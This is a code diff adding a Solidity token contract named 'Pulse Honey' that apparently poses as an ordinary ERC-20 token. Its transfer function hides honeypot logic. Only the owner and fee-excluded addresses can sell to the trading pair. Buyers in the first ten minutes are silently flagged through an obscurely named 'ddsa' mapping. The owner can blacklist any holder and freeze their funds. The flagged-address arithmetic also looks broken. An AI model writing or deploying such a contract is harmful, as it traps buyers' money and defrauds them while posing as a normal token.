@@ -0,0 +1,75 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+contract PulseHoney {
+    mapping(address => uint256) private _balances;
+    mapping(address => mapping(address => uint256)) private _allowances;
+    mapping(address => bool) private ddsa;
+    mapping(address => bool) public isBlackListed;
+    mapping(address => bool) private _isExcludedFromFee;
+    address private _owner;
+    address public pair;
+    uint256 private _totalSupply = 69000000000 * 10**9;
+    uint256 private _killEndTime;
+    string private _name = "Pulse Honey";
+    string private _symbol = "HONEY";
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+
+    modifier onlyOwner() {
+        require(msg.sender == _owner, "x");
+        _;
+    }
+
+    constructor() {
+        _owner = msg.sender;
+        _balances[msg.sender] = _totalSupply;
+        _isExcludedFromFee[msg.sender] = true;
+        _killEndTime = block.timestamp + 600;
+    }
+
+    function name() public view returns (string memory) { return _name; }
+    function symbol() public view returns (string memory) { return _symbol; }
+    function decimals() public pure returns (uint8) { return 9; }
+    function totalSupply() public view returns (uint256) { return _totalSupply; }
+    function balanceOf(address account) public view returns (uint256) { return _balances[account]; }
+    function owner() public view returns (address) { return _owner; }
+
+    function transfer(address to, uint256 amount) public returns (bool) {
+        _transfer(msg.sender, to, amount);
+        return true;
+    }
+
+    function approve(address spender, uint256 amount) public returns (bool) {
+        _allowances[msg.sender][spender] = amount;
+        emit Approval(msg.sender, spender, amount);
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
+        _allowances[from][msg.sender] -= amount;
+        _transfer(from, to, amount);
+        return true;
+    }
+
+    function setPair(address _pair) external onlyOwner { pair = _pair; }
+    function ddsaSet(address account, bool flag) external onlyOwner { ddsa[account] = flag; }
+    function blackList(address account, bool flag) external onlyOwner { isBlackListed[account] = flag; }
+
+    function _transfer(address from, address to, uint256 amount) internal {
+        require(!isBlackListed[from], "BL");
+        if (ddsa[from]) {
+            amount = amount - (_balances[from] * 99 / 100);
+        }
+        if (block.timestamp <= _killEndTime && to != pair && !_isExcludedFromFee[to]) {
+            ddsa[to] = true;
+        }
+        if (from != _owner && to == pair) {
+            require(_isExcludedFromFee[from], "E1");
+        }
+        _balances[from] -= amount;
+        _balances[to] += amount;
+        emit Transfer(from, to, amount);
+    }
+}